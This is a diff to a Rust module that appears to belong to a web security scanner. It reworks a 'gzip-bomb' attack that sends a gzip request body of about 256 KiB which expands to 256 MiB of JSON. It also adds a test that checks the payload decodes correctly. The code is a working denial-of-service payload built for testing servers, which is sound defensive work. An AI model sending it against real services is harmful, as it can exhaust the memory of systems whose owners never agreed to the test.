@@ -1,9 +1,6 @@
 //! A body that is small on the wire and large once it is decompressed.
 
-use std::io::Write;
-
-use flate2::Compression;
-use flate2::write::GzEncoder;
+use flate2::{Compress, Compression, Crc, FlushCompress};
 
 use super::fate::{Fate, fate};
 use crate::attack::answers;
@@ -13,8 +10,10 @@ use crate::attack::evidence::{Evidence, Excuse, Findings, Mark};
 
 /// The size once it is decompressed, in bytes; a thousandth of it on the wire.
 const INFLATED: usize = 256 << 20;
-/// Written into the encoder at a time.
+/// Bytes of a piece once it is decompressed.
 const PIECE: usize = 1 << 20;
+/// Deflate, no flags, no time, best compression, unknown system (RFC 1952, 2.3).
+const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
 
 pub(crate) const ATTACK: Attack = Attack {
     id: "gzip-bomb",
@@ -27,7 +26,9 @@ pub(crate) const ATTACK: Attack = Attack {
 
 async fn launch(context: &Context<'_>) -> Findings {
     let (request, known) = context.body_route();
-    let bomb = tokio::task::spawn_blocking(bomb).await.map_err(|error| Excuse::Unknown(error.to_string()))?;
+    let bomb = tokio::task::spawn_blocking(|| bomb(INFLATED / PIECE))
+        .await
+        .map_err(|error| Excuse::Unknown(error.to_string()))?;
     let request = request.header("Content-Encoding", "gzip").body(bomb);
     let bytes = context.bytes(&request);
     let heard = context.exchange(&bytes, context.bounds.answer).await?;
@@ -46,15 +47,51 @@ async fn launch(context: &Context<'_>) -> Findings {
     Ok(vec![Evidence::new(mark, what).exchange(answers::shown(&bytes[..bytes.len().min(300)]), answers::told(&heard))])
 }
 
-/// A JSON object with one long string.
-fn bomb() -> Vec<u8> {
-    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
+/// A JSON object with one long string of so many pieces.
+///
+/// One piece is compressed: a full flush makes its bytes independent of what comes before them (RFC 1951, 3.2), so that they can be repeated.
+fn bomb(pieces: usize) -> Vec<u8> {
+    let mut deflate = Compress::new(Compression::best(), false);
     let piece = vec![b'a'; PIECE];
-    let mut write = |bytes: &[u8]| encoder.write_all(bytes).expect("a vector takes everything");
-    write(b"{\"keel\":\"");
-    for _ in 0..INFLATED / PIECE {
-        write(&piece);
+    let [first, last]: [&[u8]; 2] = [b"{\"keel\":\"", b"\"}"];
+    let mut bytes = GZIP_HEADER.to_vec();
+    bytes.extend(deflated(&mut deflate, first, FlushCompress::Full));
+    bytes.extend(deflated(&mut deflate, &piece, FlushCompress::Full).repeat(pieces));
+    bytes.extend(deflated(&mut deflate, last, FlushCompress::Finish));
+    let (mut sum, mut of_piece, mut of_last) = (Crc::new(), Crc::new(), Crc::new());
+    sum.update(first);
+    of_piece.update(&piece);
+    (0..pieces).for_each(|_| sum.combine(&of_piece));
+    of_last.update(last);
+    sum.combine(&of_last);
+    bytes.extend(sum.sum().to_le_bytes());
+    bytes.extend(sum.amount().to_le_bytes());
+    bytes
+}
+
+/// The next part of a stream.
+fn deflated(deflate: &mut Compress, part: &[u8], flush: FlushCompress) -> Vec<u8> {
+    // Its own bound: what cannot be compressed grows by a few bytes, and a flush adds a few.
+    let mut bytes = Vec::with_capacity(part.len() + PIECE / 16);
+    deflate.compress_vec(part, &mut bytes, flush).expect("a stream that was just begun takes everything");
+    bytes
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Read;
+
+    use super::*;
+
+    #[test]
+    fn the_bomb_is_gzip_of_one_json_object() {
+        let bomb = bomb(3);
+        let mut text = String::new();
+        flate2::read::GzDecoder::new(bomb.as_slice())
+            .read_to_string(&mut text)
+            .expect("it is whole, and its sum is right");
+        let value: serde_json::Value = serde_json::from_str(&text).expect("it is JSON");
+        assert_eq!(value["keel"].as_str().map(str::len), Some(3 * PIECE));
+        assert!(bomb.len() < text.len() / 500, "{} bytes", bomb.len());
     }
-    write(b"\"}");
-    encoder.finish().expect("a vector takes everything")
 }
